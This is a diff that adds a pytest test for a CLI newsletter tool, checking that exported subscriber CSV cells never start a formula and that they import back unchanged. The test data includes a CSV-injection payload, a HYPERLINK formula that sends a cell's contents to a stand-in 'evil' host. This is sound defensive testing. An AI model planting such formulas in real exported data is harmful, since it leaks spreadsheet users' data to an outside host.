@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 
 import pytest
@@ -145,6 +146,24 @@ def test_export_then_import_round_trips(run_cli, new_db, tmp_path, suffix):
     result = run_cli("--db", other_db, "subscribers", "import", exported, db=False)
     assert result.exit_code == 0, result.output
     again = json.loads(run_cli("--db", other_db, "subscribers", "--json", db=False).stdout)
+    assert again == before
+
+
+def test_exported_csv_cells_never_start_a_formula_and_import_back_as_written(run_cli, new_db, tmp_path):
+    """A name from the sign-up form such as =HYPERLINK(...) would run in a spreadsheet that
+    opens the export (CSV injection): such cells are written after a ', and imported without."""
+    name = '=HYPERLINK("http://evil/?"&A1;"x")'
+    assert run_cli("subscribe", "eve@example.org", "--name", name, "--topic", "@home=-video diffusion",
+                   "--topic", "+plus=scaling").exit_code == 0
+    before = readers(run_cli)
+    exported = tmp_path / "readers.csv"
+    assert run_cli("subscribers", "export", "-o", exported).exit_code == 0
+    cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in "=+-@"]
+    assert "'=HYPERLINK(\"http://evil/?\"&A1;\"x\")" in cells and "'-video diffusion" in cells and "'@home" in cells
+    other = new_db(tmp_path / "other.db")
+    assert run_cli("--db", other, "subscribers", "import", exported, db=False).exit_code == 0
+    again = json.loads(run_cli("--db", other, "subscribers", "--json", db=False).stdout)
     assert again == before
 
 
